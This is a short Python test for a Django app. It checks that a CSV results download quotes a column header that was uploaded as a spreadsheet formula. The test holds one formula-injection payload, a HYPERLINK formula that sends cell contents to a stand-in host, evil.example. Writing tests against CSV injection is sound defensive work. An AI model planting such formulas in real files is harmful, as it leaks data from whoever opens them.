"""Every cell of every CSV download is text a spreadsheet shows and never runs, its header
row too: a header can be a column name someone typed."""

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile

from tests.factories import CampaignFactory

FORMULA = '=hyperlink("http://evil.example/?x="&a1,"open")'  # as the upload lowercases it


def test_an_uploaded_column_named_as_a_formula_is_quoted_in_the_results_header(
        client_for, operator_user):
    client = client_for(operator_user)
    campaign = CampaignFactory()
    quoted = FORMULA.replace('"', '""')
    upload = f'number,"{quoted}"\n+31201234567,x\n'.encode()
    client.post(f"/campaigns/{campaign.pk}/contacts",
                {"file": SimpleUploadedFile("list.csv", upload, "text/csv")})

    body = b"".join(client.get(f"/campaigns/{campaign.pk}/results.csv").streaming_content)
    header = next(csv.reader(io.StringIO(body.decode())))

    assert header[-1] == "'" + FORMULA
